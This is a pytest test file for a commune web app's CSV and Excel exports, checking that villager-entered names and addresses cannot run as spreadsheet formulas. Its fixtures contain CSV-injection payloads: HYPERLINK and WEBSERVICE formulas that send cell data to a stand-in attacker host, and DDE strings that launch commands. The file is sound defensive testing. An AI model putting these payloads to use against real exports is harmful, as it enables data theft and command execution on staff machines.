"""No export runs a villager's text: what looks like a formula is text in Excel and in the CSV files.

Villagers submit through the real journey with names and addresses that a spreadsheet
would run (OWASP CSV injection); a clerk and a leader download every export of the site
(the figures and the Form 07 register, as CSV and as Excel) and read them back: no Excel
cell is a formula and each shows the text as typed; each CSV cell that could run starts
with an apostrophe. Counts stay numbers.
"""
import csv
import io
import re

import pytest
from openpyxl import load_workbook

from commune.core.export_safety import csv_value, looks_like_formula
from commune.dossiers.models import Dossier
from commune.extensions import db
from tests.factories import make_dossier, make_procedure, make_user
from tests.journeys import DETAILS, upload
from tests.photos import images

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&B2,"Xem")'
VILLAGERS = [
    {"full_name": HYPERLINK, "address": "+cmd|' /C calc'!A0"},
    {"full_name": "-2+3", "address": "@SUM(1+1)*cmd|' /C calc'!A0"},
    {"full_name": "@SUM(A1:A9)", "address": '=WEBSERVICE("http://attacker.example/"&C2)'},
    {"full_name": "Lò Thị Hoa", "address": "\t=1+1"},
    {"full_name": "Vàng A Páo", "address": "\r=1+1"},
]
# Every export of the site that writes CSV or Excel.
EXPORTS = ["/so-lieu/xuat/so-theo-doi.csv", "/so-lieu/xuat/so-theo-doi.xlsx",
           "/so-lieu/xuat/so-lieu.csv", "/so-lieu/xuat/so-lieu.xlsx"]
HOSTILE_PROCEDURE = "=1+2 Thủ tục giả"
HOSTILE_STAFF = "-Cán bộ @ giả"


def villager_submits(app, procedure, **details):
    """A villager's own browser walks the whole journey and submits."""
    browser = app.test_client()
    data = dict(DETAILS, **details)
    response = browser.post(f"/thu-tuc/{procedure.slug}/nop-ho-so", data=data)
    assert response.status_code == 302, response.get_data(as_text=True)
    assert upload(browser, 0, images.jpeg()).status_code == 201
    assert browser.post("/nop-ho-so/anh-giay-to").status_code == 302
    page = browser.get("/nop-ho-so/kiem-tra").get_data(as_text=True)
    key = re.search(r'name="submit_key" type="hidden" value="([^"]+)"', page).group(1)
    response = browser.post("/nop-ho-so/nop", data={"submit_key": key, "declaration": "y"})
    assert response.status_code == 302


@pytest.fixture
def hostile_register(app):
    """Five online submissions with hostile names and addresses, in a procedure with a hostile name."""
    procedure = make_procedure(name=HOSTILE_PROCEDURE, documents=("Tờ khai",), postal=False)
    db.session.commit()
    for details in VILLAGERS:
        villager_submits(app, procedure, **details)
    staff = make_user("officer", full_name=HOSTILE_STAFF)
    for dossier in db.session.query(Dossier).all():
        dossier.assignee_id = staff.id
    db.session.commit()
    return procedure


def stored_values():
    """The names and addresses as they were stored (the exports must show exactly these)."""
    rows = db.session.query(Dossier.applicant_name, Dossier.applicant_address).all()
    return {value for row in rows for value in row}


def csv_cells(response):
    return [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))
            for cell in row]


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.data)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("role", ["clerk", "leader"])
@pytest.mark.parametrize("url", EXPORTS)
def test_no_exported_cell_can_run(hostile_register, client, login_as, role, url):
    login_as(role)
    response = client.get(url)
    assert response.status_code == 200
    if url.endswith(".csv"):
        cells = csv_cells(response)
        for cell in cells:
            assert not looks_like_formula(cell), f"CSV cell {cell!r} would run"
        shown = {cell[1:] if cell.startswith("'") and looks_like_formula(cell[1:]) else cell for cell in cells}
    else:
        cells = xlsx_cells(response)
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        for cell in cells:
            if isinstance(cell.value, str) and looks_like_formula(cell.value):
                assert cell.data_type == "s" and cell.quotePrefix
        shown = {cell.value for cell in cells}
    if "so-theo-doi" in url:
        assert stored_values() <= shown  # each name and address is there, as text
    assert HOSTILE_PROCEDURE in shown
    if role == "leader" and "so-lieu." in url:
        assert HOSTILE_STAFF in shown


def test_what_the_villagers_typed_reaches_the_register_as_text(hostile_register, client, login_as):
    login_as("clerk")
    sheet = load_workbook(io.BytesIO(client.get("/so-lieu/xuat/so-theo-doi.xlsx").data)).active
    names = {cell.value for cell in sheet["C"]}
    assert HYPERLINK in names and "-2+3" in names and "@SUM(A1:A9)" in names
    text = client.get("/so-lieu/xuat/so-theo-doi.csv").get_data(as_text=True)
    assert '"\'=HYPERLINK(""http://attacker.example/?d=""&B2,""Xem"")"' in text
    assert "'-2+3" in text and "'@SUM(A1:A9)" in text and "'+cmd|' /C calc'!A0" in text


def test_counts_stay_numbers(hostile_register, client, login_as):
    login_as("leader")
    sheet = load_workbook(io.BytesIO(client.get("/so-lieu/xuat/so-lieu.xlsx").data)).active
    overall = next(row for row in sheet.iter_rows() if row[0].value == "Tổng cộng")
    assert overall[2].value == len(VILLAGERS) and overall[2].data_type == "n"
    register = load_workbook(io.BytesIO(client.get("/so-lieu/xuat/so-theo-doi.xlsx").data)).active
    assert [cell.value for cell in register["A"] if cell.data_type == "n"] == list(range(1, len(VILLAGERS) + 1))
    rows = list(csv.reader(io.StringIO(client.get("/so-lieu/xuat/so-lieu.csv").get_data(as_text=True))))
    assert next(row for row in rows if row[0] == "Tổng cộng")[2] == str(len(VILLAGERS))


@pytest.mark.parametrize("value", ["\t=1+1", "\r=1+1", "=1+1", "+1", "-1", "@A1", "  =1+1", "＝1+1"])
def test_text_stored_before_the_forms_cleaned_it_is_neutralised_too(app, client, login_as, value):
    """A row written before this release (or by a script) with a tab or carriage return first."""
    make_dossier(applicant_name=value, applicant_address=value + " thôn Đông")
    db.session.commit()
    login_as("clerk")
    cells = csv_cells(client.get("/so-lieu/xuat/so-theo-doi.csv"))
    assert "'" + value in cells and value not in cells
    sheet = load_workbook(io.BytesIO(client.get("/so-lieu/xuat/so-theo-doi.xlsx").data)).active
    # (XML reads a carriage return back as a line break: compare without the leading white space)
    cell = next(c for c in sheet["C"] if (c.value or "").strip() == value.strip())
    assert cell.data_type == "s"


def test_an_error_code_or_a_control_character_stays_text_in_excel(app, client, login_as):
    make_dossier(applicant_name="#N/A", applicant_address="Thôn\x01 Đông")
    db.session.commit()
    login_as("clerk")
    sheet = load_workbook(io.BytesIO(client.get("/so-lieu/xuat/so-theo-doi.xlsx").data)).active
    name = next(c for c in sheet["C"] if c.value == "#N/A")
    assert name.data_type == "s" and "Thôn Đông" in {c.value for c in sheet["D"]}


def test_numbers_are_not_mistaken_for_formulas():
    assert csv_value(-3) == -3 and csv_value(2.5) == 2.5 and csv_value(None) is None
    assert csv_value("0912 345 678") == "0912 345 678" and csv_value("Nguyễn - An") == "Nguyễn - An"
